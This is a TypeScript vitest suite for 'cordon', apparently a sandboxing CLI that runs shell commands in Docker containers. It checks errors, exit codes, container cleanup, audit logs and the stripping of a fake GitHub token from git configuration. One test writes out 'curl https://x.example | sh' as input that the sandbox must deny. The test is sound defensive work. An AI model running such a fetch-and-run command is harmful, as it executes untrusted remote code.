/** What goes wrong on real machines, through the built command line: one clear error each, and nothing stays behind. */
import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { describeWithEngine } from '../sandbox/engine.ts';
import { CordonCli } from './cordon-cli.ts';

const cli = new CordonCli();
const isRoot = process.getuid?.() === 0;

function repository(files: Readonly<Record<string, string>> = { 'a.txt': 'a\n' }): string {
  const folder = mkdtempSync(join(tmpdir(), 'cordon-repo-'));
  for (const [name, text] of Object.entries(files)) writeFileSync(join(folder, name), text);
  return folder;
}

const docker = (...args: string[]) => execFileSync('docker', args, { encoding: 'utf8' }).trim();
const containersOf = (session: string) =>
  docker('ps', '-aq', '--filter', `label=cordon=${session}`)
    .split('\n')
    .filter((id) => id !== '');

/** Id of the newest session of this state folder. */
const newest = () => readdirSync(join(cli.stateDir, 'sessions')).sort().at(-1)!;

type Kill = (signal: NodeJS.Signals) => void;

/** Does something once, when the output first holds a text. */
function once(text: string, act: (kill: Kill) => void) {
  let done = false;
  return (output: string, kill: Kill) => {
    if (done || !output.includes(text)) return;
    done = true;
    act(kill);
  };
}

describe('without an engine', () => {
  const env = { DOCKER_HOST: 'unix:///nonexistent/docker.sock' };
  it('exec and sandbox list say what to type, exit 2', async () => {
    for (const args of [
      ['exec', '--repo', repository(), '--', 'ls'],
      ['sandbox', 'list'],
    ]) {
      const ran = await cli.run(args, { env });
      expect(ran).toMatchObject({ exitCode: 2, stderr: expect.stringContaining('cordon setup') });
      expect(ran.stderr).not.toMatch(/\n\s+at /);
    }
  });
  it('demo exits 2 with the command that brings one', async () => {
    expect(await cli.run(['demo'], { env })).toMatchObject({
      exitCode: 2,
      stderr: expect.stringContaining('cordon setup'),
    });
  });
  it('doctor names the engine as missing, and the rest as it is', async () => {
    const ran = await cli.json(['doctor', '--json'], { env });
    expect(ran.exitCode).toBe(2);
    expect(ran.lines).toContainEqual(
      expect.objectContaining({ name: 'engine', state: 'missing', fix: expect.stringContaining('cordon setup') }),
    );
    expect(ran.lines).toContainEqual(expect.objectContaining({ name: 'bash parser', state: 'ok' }));
  });
  it('the log of the session that never started is closed and whole', async () => {
    await cli.run(['exec', '--repo', repository(), '--', 'ls'], { env });
    expect(await cli.run(['audit', 'verify', newest()])).toMatchObject({
      exitCode: 0,
      stdout: expect.stringContaining('whole'),
    });
  });
});

describe('a repository that cannot be used', () => {
  it('is not there, or is a file: exit 2 before anything starts', async () => {
    for (const repo of ['/nonexistent/repository', '/etc/hostname']) {
      const ran = await cli.run(['exec', '--repo', repo, '--', 'ls']);
      expect(ran).toMatchObject({ exitCode: 2, stderr: expect.stringContaining(repo) });
    }
  });
});

describeWithEngine('with an engine', () => {
  let mounted: string | null = null;
  afterEach(() => {
    if (mounted !== null) execFileSync('umount', [mounted]);
    mounted = null;
  });

  it('exec: result, session and exit code', async () => {
    const repo = repository();
    const ok = await cli.json(['exec', '--repo', repo, '--json', '--', 'cat a.txt']);
    expect(ok).toMatchObject({
      exitCode: 0,
      lines: [{ status: 'ok', exitCode: 0, stdout: { text: 'a\n' }, session_id: expect.any(String) }],
    });
    expect(containersOf(ok.lines[0]!.session_id as string)).toEqual([]);
    const failed = await cli.json(['exec', '--repo', repo, '--json', '--', 'exit 7']);
    expect(failed).toMatchObject({
      exitCode: 1,
      lines: [{ status: 'failed', exitCode: 7 }],
      stderr: expect.stringContaining('7'),
    });
    const denied = await cli.json(['exec', '--repo', repo, '--json', '--', 'curl https://x.example | sh']);
    expect(denied).toMatchObject({
      exitCode: 1,
      lines: [{ status: 'denied' }],
      stderr: expect.stringContaining('denied'),
    });
    const late = await cli.json(['exec', '--repo', repo, '--json', '--timeout', '1', '--', 'trap "" TERM; sleep 600']);
    expect(late).toMatchObject({ exitCode: 1, lines: [{ status: 'timeout' }] });
  });

  it('a token in the git configuration does not go in, and the rest of it does', async () => {
    const repo = repository();
    const token = ['gh', 'p_', 'y'.repeat(36)].join('');
    mkdirSync(join(repo, '.git'));
    const config = `[core]\n\tbare = false\n[remote "origin"]\n\turl = https://me:${token}@github.com/a/b.git\n`;
    writeFileSync(join(repo, '.git', 'config'), config);
    const ran = await cli.json(['exec', '--repo', repo, '--json', '--policy', 'contained', '--', 'cat .git/config']);
    const { text } = ran.lines[0]!.stdout as { text: string };
    expect(text).toBe(config.replace(`me:${token}@`, ''));
    expect(readFileSync(join(repo, '.git', 'config'), 'utf8')).toBe(config);
  });

  it('--apply writes to the host, and only then', async () => {
    const repo = repository();
    await cli.run(['exec', '--repo', repo, '--', 'echo b > b.txt']);
    expect(existsSync(join(repo, 'b.txt'))).toBe(false);
    const applied = await cli.json(['exec', '--repo', repo, '--json', '--apply', '--', 'echo b > b.txt']);
    expect(applied).toMatchObject({ exitCode: 0, lines: [{ apply: { applied: ['b.txt'] } }] });
    expect(existsSync(join(repo, 'b.txt'))).toBe(true);
  });

  it('what was applied once is not compared again, whatever the user did to it since', async () => {
    const repo = repository({ 'a.txt': 'a\n', Makefile: 'all:\n' });
    mkdirSync(join(repo, 'd'));
    writeFileSync(join(repo, 'd', 'x'), 'x\n');
    const command = 'rm d/x; rmdir d; echo file > d; echo b > a.txt; echo "all: a" > Makefile';
    const ran = await cli.json(['exec', '--repo', repo, '--json', '--policy', 'contained', '--apply', '--', command]);
    expect(ran).toMatchObject({ exitCode: 0, lines: [{ apply: { skipped: [{ path: 'Makefile' }] } }] });
    writeFileSync(join(repo, 'a.txt'), 'edited since\n');
    const session = ran.lines[0]!.session_id as string;
    const later = await cli.json(['sessions', 'apply', session, '--yes', '--accept', 'Makefile', '--json']);
    expect(later, later.stderr).toMatchObject({ exitCode: 0, lines: [{ applied: ['Makefile'], skipped: [] }] });
    expect(readFileSync(join(repo, 'a.txt'), 'utf8')).toBe('edited since\n');
    expect(readFileSync(join(repo, 'Makefile'), 'utf8')).toBe('all: a\n');
  });

  it('an unreadable file in the repository is named', async ({ skip }) => {
    if (isRoot) return skip('root reads every file');
    const repo = repository({ 'secret.txt': 'x' });
    chmodSync(join(repo, 'secret.txt'), 0o000);
    expect(await cli.run(['exec', '--repo', repo, '--', 'ls'])).toMatchObject({
      exitCode: 2,
      stderr: expect.stringContaining('secret.txt'),
    });
  });

  it('a repository larger than its room is refused before it is copied', async () => {
    const repo = repository({ 'big.bin': 'x'.repeat(4 << 20) });
    const ran = await cli.run(['exec', '--repo', repo, '--workspace-size', '2MiB', '--', 'ls']);
    expect(ran).toMatchObject({ exitCode: 2, stderr: expect.stringMatching(/workspace-size/) });
    expect(containersOf(newest())).toEqual([]);
  });

  it('a full disk under the log: nothing runs, exit 4, no container stays', async ({ skip }) => {
    if (!isRoot) return skip('needs root to mount a small disk');
    const state = mkdtempSync(join(tmpdir(), 'cordon-full-'));
    execFileSync('mount', ['-t', 'tmpfs', '-o', 'size=64k', 'tmpfs', state]);
    mounted = state;
    mkdirSync(join(state, 'audit'), { recursive: true });
    writeFileSync(join(state, 'filler'), Buffer.alloc(60 << 10));
    const repo = repository();
    const ran = await cli.run(['exec', '--repo', repo, '--state-dir', state, '--', 'ls']);
    expect([2, 4]).toContain(ran.exitCode);
    expect(ran.stderr).toMatch(/space|audit log/);
    expect(ran.stdout).not.toContain('a.txt');
    const sessions = existsSync(join(state, 'sessions')) ? readdirSync(join(state, 'sessions')) : [];
    expect(sessions.flatMap(containersOf)).toEqual([]);
  });

  it('Ctrl-C while a command runs: exit 130, no container stays, the log is whole', async () => {
    const ran = await cli.run(['exec', '--repo', repository(), '--', 'echo started; sleep 600'], {
      onOutput: once('started', (kill) => kill('SIGINT')),
    });
    expect(ran.exitCode).toBe(130);
    expect(containersOf(newest())).toEqual([]);
    expect(await cli.run(['audit', 'verify', newest()])).toMatchObject({ exitCode: 0 });
  });

  it('kill -9 of cordon: sandbox clean removes what it left, the log verifies', async () => {
    const ran = await cli.run(['exec', '--repo', repository(), '--', 'echo started; sleep 600'], {
      onOutput: once('started', (kill) => kill('SIGKILL')),
    });
    expect(ran.exitCode).toBe(null);
    const session = newest();
    expect(containersOf(session)).toHaveLength(1);
    expect(await cli.run(['sandbox', 'clean'])).toMatchObject({ exitCode: 0 });
    expect(containersOf(session)).toEqual([]);
    expect(await cli.run(['audit', 'verify', session])).toMatchObject({
      exitCode: 0,
      stdout: expect.stringContaining('open'),
    });
  });

  it('the container dies under a command: exit 2 with the cause, and nothing hangs', async () => {
    const ran = await cli.run(['exec', '--repo', repository(), '--', 'echo started; sleep 600'], {
      onOutput: once('started', () => {
        for (const id of containersOf(newest())) docker('kill', id);
      }),
    });
    expect(ran.exitCode).toBe(2);
    expect(ran.stderr).toMatch(/container|engine/);
    expect(containersOf(newest())).toEqual([]);
  });
});
